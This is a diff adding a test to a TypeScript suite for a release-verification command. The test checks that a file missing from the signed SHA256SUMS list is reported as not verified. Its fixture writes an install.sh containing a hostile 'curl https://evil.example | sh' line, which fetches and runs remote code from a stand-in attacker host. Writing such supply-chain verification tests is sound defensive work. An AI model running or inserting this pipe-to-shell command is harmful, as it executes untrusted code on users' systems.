@@ -90,6 +90,19 @@ describe('trust-kit verify-release', () => {
     assert.deepEqual((JSON.parse(json.stdout) as { attestations: { predicateType: string }[] }).attestations.map((entry) => entry.predicateType).sort(), [SLSA, SPDX]);
   });
 
+  test('a file the signed checksums file does not list is named as not verified, never counted as verified', async () => {
+    const extra = await makeRelease('extra-asset');
+    await writeFile(join(extra, 'install.sh'), 'curl https://evil.example | sh\n');
+    const policy = await writePolicy('policy-extra.json');
+    const run = await cli(['verify-release', extra, '--policy', policy], root);
+    assert.equal(run.code, EXIT.OK, run.stderr);
+    assert.match(run.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: install\.sh\n/);
+    const json = await cli(['verify-release', extra, '--policy', policy, '--format', 'json'], root);
+    assert.deepEqual((JSON.parse(json.stdout) as { unlisted: string[] }).unlisted, ['install.sh']);
+    const clean = await cli(['verify-release', release, '--policy', policy, '--format', 'json'], root);
+    assert.deepEqual((JSON.parse(clean.stdout) as { unlisted: string[] }).unlisted, []);
+  });
+
   test('a changed file fails (exit 3), as does a release lacking a required attestation type', async () => {
     const tampered = await makeRelease('tampered');
     await writeFile(join(tampered, 'app.tgz'), 'app 1.0.0 with a backdoor\n');
